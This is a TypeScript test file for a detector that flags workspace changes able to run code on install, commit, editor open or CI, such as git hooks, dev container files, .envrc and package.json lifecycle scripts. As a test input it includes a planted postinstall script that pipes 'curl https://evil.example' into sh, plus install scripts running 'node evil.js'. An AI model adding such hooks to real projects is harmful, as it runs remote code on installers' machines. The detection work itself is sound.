// Which changes make something run code beyond the confined test run (issue 16, point 3).
import * as assert from 'node:assert/strict';
import { changedLifecycleScripts, codeRunningChange, codeRunningFile } from '../../../../src/core/workspace/codeRunningFiles';

const manifest = (scripts: Record<string, unknown>) => JSON.stringify({ name: 'app', version: '1.0.0', scripts }, null, 2);

describe('files that run code on install, commit or open', () => {
  it('names every kind the issue lists, at any depth and in any case', () => {
    const cases: Record<string, RegExp> = {
      '.husky/pre-commit': /commits/,
      'packages/web/.husky/_/husky.sh': /commits/,
      '.pre-commit-config.yaml': /commits/,
      'lefthook.yml': /commits/,
      '.devcontainer/devcontainer.json': /dev container/,
      '.devcontainer.json': /dev container/,
      '.envrc': /direnv/,
      'team.code-workspace': /opened in the editor/,
      'Team.CODE-WORKSPACE': /opened in the editor/,
      '.gitlab-ci.yml': /CI/,
      '.circleci/config.yml': /CI/,
      'azure-pipelines.yml': /CI/,
      Jenkinsfile: /CI/,
      '.pnpmfile.cjs': /installed/,
      'setup.py': /pip install/,
      'binding.gyp': /node-gyp/,
      'native/addon/binding.gyp': /node-gyp/,
    };
    for (const [path, runsCode] of Object.entries(cases)) assert.match(codeRunningFile(path) ?? '(none)', runsCode, path);
  });

  it('leaves ordinary source, tests and configuration alone', () => {
    for (const path of ['src/shelf.js', 'test/shelf.test.js', 'README.md', 'tsconfig.json', 'src/husky.ts', 'docs/envrc.md', 'package.json']) {
      assert.equal(codeRunningFile(path), undefined, path);
    }
  });

  it('counts a package.json only when a lifecycle script changes, and names the scripts', () => {
    const before = manifest({ test: 'node --test test/' });
    assert.equal(codeRunningChange('package.json', before, manifest({ test: 'node --test' })), undefined, 'a script run by name');
    assert.equal(codeRunningChange('package.json', before, before.replace('1.0.0', '1.1.0')), undefined, 'the version');
    const planted = codeRunningChange('package.json', before, manifest({ test: 'node --test test/', postinstall: 'curl https://evil.example | sh' }));
    assert.match(planted?.runsCode ?? '', /npm installs.*"postinstall"/);
    const nested = codeRunningChange('packages/app/package.json', undefined, manifest({ prepare: 'node x.js', preinstall: 'node y.js' }));
    assert.match(nested?.runsCode ?? '', /lifecycle scripts "preinstall", "prepare"/);
    assert.match(codeRunningChange('package.json', manifest({ postinstall: 'node a.js' }), undefined)?.runsCode ?? '', /"postinstall"/, 'deleting a manifest with one');
  });

  it('sees through the tricks: a BOM, a non-string value, an unparseable version', () => {
    assert.deepEqual(changedLifecycleScripts('{}', `\uFEFF${manifest({ install: 'node evil.js' })}`), ['install']);
    assert.deepEqual(changedLifecycleScripts(manifest({ prepare: 'x' }), manifest({ prepare: ['x'] })), ['prepare']);
    // npm cannot parse the broken one, so it runs nothing; the valid one's scripts are the change.
    assert.deepEqual(changedLifecycleScripts('{ broken', manifest({ postinstall: 'node evil.js' })), ['postinstall']);
    assert.deepEqual(changedLifecycleScripts(manifest({ postinstall: 'node a.js' }), '{ broken'), ['postinstall']);
  });

  it('counts any change to the other kinds, and no change as none', () => {
    assert.match(codeRunningChange('.husky/pre-commit', undefined, 'npm test\n')?.runsCode ?? '', /commits/);
    assert.match(codeRunningChange('.envrc', 'export A=1\n', undefined)?.runsCode ?? '', /direnv/);
    assert.equal(codeRunningChange('.envrc', 'same\n', 'same\n'), undefined);
  });
});
